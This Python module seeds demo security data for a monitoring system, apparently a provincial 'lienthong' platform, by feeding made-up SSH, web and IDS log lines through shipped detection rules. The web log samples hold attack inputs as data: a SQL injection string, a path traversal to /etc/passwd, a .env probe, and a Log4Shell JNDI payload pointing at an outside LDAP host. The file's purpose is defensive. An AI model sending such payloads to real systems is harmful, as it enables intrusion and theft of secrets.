"""Demo data: a morning's logs from a few of the province's systems run through the shipped
rules, so a new node's security pages show real alerts (`lienthong demo`)."""

from __future__ import annotations

import json
from datetime import timedelta
from zoneinfo import ZoneInfo

from sqlalchemy import select
from sqlalchemy.orm import Session

from lienthong.kernel.clock import utcnow
from lienthong.security import alerts, events
from lienthong.security.detection import SHIPPED_RULES, load_rules
from lienthong.security.intake import Received
from lienthong.security.models import SecuritySource
from lienthong.security.replay import read_line

DEMO_SOURCE = "demo:cong-dvc"


def _lines() -> list[bytes]:
    now = utcnow().astimezone(ZoneInfo("Asia/Ho_Chi_Minh")) - timedelta(minutes=30)
    syslog_ts = now.strftime("%b %d %H:%M:%S").replace(" 0", "  ", 1)
    web_ts = now.strftime("%d/%b/%Y:%H:%M:%S %z")
    lines = [
        f"<38>{syslog_ts} may-chu-dvc sshd[41{i}]: Failed password for invalid user admin from "
        f"45.95.147.10 port 5{i:04d} ssh2"
        for i in range(9)
    ]
    web = [
        ("GET /dvc/tra-cuu?ma=1%27%20or%20%271%27=%271 HTTP/1.1", 200, "Mozilla/5.0"),
        ("GET /../../../../etc/passwd HTTP/1.1", 404, "curl/8.5.0"),
        ("GET /.env HTTP/1.1", 404, "nuclei - open-source project"),
        ("GET /wp-login.php HTTP/1.1", 404, "sqlmap/1.7.12#stable"),
        ("GET /?x=${jndi:ldap://103.1.2.3/a} HTTP/1.1", 400, "Mozilla/5.0"),
    ]
    lines += [
        f'14.177.{i}.9 - - [{web_ts}] "{request}" {status} 512 "-" "{agent}"'
        for i, (request, status, agent) in enumerate(web)
    ]
    eve = {
        "timestamp": now.isoformat(),
        "flow_id": 918273645,
        "event_type": "alert",
        "src_ip": "10.20.30.40",
        "src_port": 49152,
        "dest_ip": "185.220.101.7",
        "dest_port": 443,
        "proto": "TCP",
        "alert": {
            "action": "allowed",
            "gid": 1,
            "signature_id": 2013028,
            "rev": 7,
            "signature": "ET POLICY curl User-Agent Outbound",
            "category": "Attempted Information Leak",
            "severity": 2,
        },
    }
    lines.append(json.dumps(eve))
    return [line.encode() for line in lines]


def seed_security_demo(session: Session) -> int:
    """Store the demo events and the alerts they raise; once (none if the demo source exists)."""
    if session.scalar(select(SecuritySource.id).where(SecuritySource.name == DEMO_SOURCE)):
        return 0
    events.create_source(session, name=DEMO_SOURCE, kind="syslog")
    rules = load_rules([SHIPPED_RULES])
    now = utcnow()
    batch = [
        Received(
            DEMO_SOURCE,
            "syslog",
            read_line(line, zone=ZoneInfo("Asia/Ho_Chi_Minh")),
            line.decode(),
            now,
            0.0,
        )
        for line in _lines()
    ]
    ids = events.store(session, batch)
    matches = [
        alerts.Match(rule, item.fields, event_id)
        for item, event_id in zip(batch, ids, strict=True)
        for rule in rules.match(item.fields)
    ]
    raised = alerts.raise_alerts(
        session, matches=matches, window=timedelta(minutes=15), recipients=alerts.Recipients()
    )
    return len(raised)
